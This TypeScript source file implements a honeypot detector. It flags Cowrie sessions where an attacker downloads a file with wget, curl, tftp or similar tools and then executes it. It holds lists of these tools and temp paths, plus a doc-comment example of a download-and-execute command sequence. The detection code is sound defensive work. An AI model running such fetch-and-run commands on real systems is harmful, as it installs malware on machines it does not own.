/**
 * A malware drop as a session shows it: something fetched (a file download or upload Cowrie
 * logged, or a wget/curl/tftp/ftpget command), then run (chmod, a shell, or a path executed) in
 * the same session. Cowrie logs `session.file_download.failed` when its fetch fails, which is
 * still the attacker's intent, so it counts.
 *
 * Sessions live in a bounded LRU table: most of a scan storm's sessions never close.
 *
 *     const drops = new DownloadThenRun();
 *     drops.observe({ session: "a1", eventid: "cowrie.command.input", input: "wget http://x/b" });  // false
 *     drops.observe({ session: "a1", eventid: "cowrie.command.input", input: "chmod +x b; ./b" });  // true
 */
import type { CanonicalEvent } from "../domain/canonical-event";
import { LruMap } from "../collections/lru-map";
import { programsOf } from "./sensor-vocabulary";

const FETCHERS = new Set(["wget", "curl", "tftp", "ftpget", "scp"]);
const RUNNERS = new Set(["chmod", "sh", "bash", "ash", "dash", "busybox", "perl", "python", "python3", "nohup"]);

/** Where a program name means "run a fetched file": a relative or temporary path. */
const EXECUTED_PATH = /^(\.\/|\/tmp\/|\/dev\/shm\/|\/var\/tmp\/)/;

export class DownloadThenRun {
  /** Sessions that fetched something and have not run it yet (true) or already did (false). */
  private readonly fetched: LruMap<string, boolean>;

  constructor(maxSessions = 50_000) {
    this.fetched = new LruMap(maxSessions);
  }

  /** True on the event that runs what its session fetched before (once per session). */
  observe(event: Partial<CanonicalEvent>): boolean {
    const session = event.session;
    if (typeof session !== "string" || session === "") return false;
    const eventid = event.eventid ?? "";
    if (eventid.startsWith("cowrie.session.file_download") || eventid === "cowrie.session.file_upload") {
      if (!this.fetched.has(session)) this.fetched.set(session, true);
      return false;
    }
    if (eventid !== "cowrie.command.input" || typeof event.input !== "string") return false;
    // "/usr/bin/wget" is wget; "./b" and "/tmp/b" are fetched files being run.
    const programs = programsOf(event.input).map((program) => (EXECUTED_PATH.test(program) ? program : program.slice(program.lastIndexOf("/") + 1)));
    const pending = this.fetched.get(session);
    const runs = programs.some((program) => RUNNERS.has(program) || EXECUTED_PATH.test(program));
    if (pending === true && runs) {
      this.fetched.set(session, false);
      return true;
    }
    // A fetch and its run on one command line ("wget ...; chmod +x b; ./b") count at once.
    const fetchAt = programs.findIndex((program) => FETCHERS.has(program));
    if (pending === undefined && fetchAt >= 0) {
      const runsAfter = programs.slice(fetchAt + 1).some((program) => RUNNERS.has(program) || EXECUTED_PATH.test(program));
      this.fetched.set(session, !runsAfter);
      return runsAfter;
    }
    return false;
  }
}
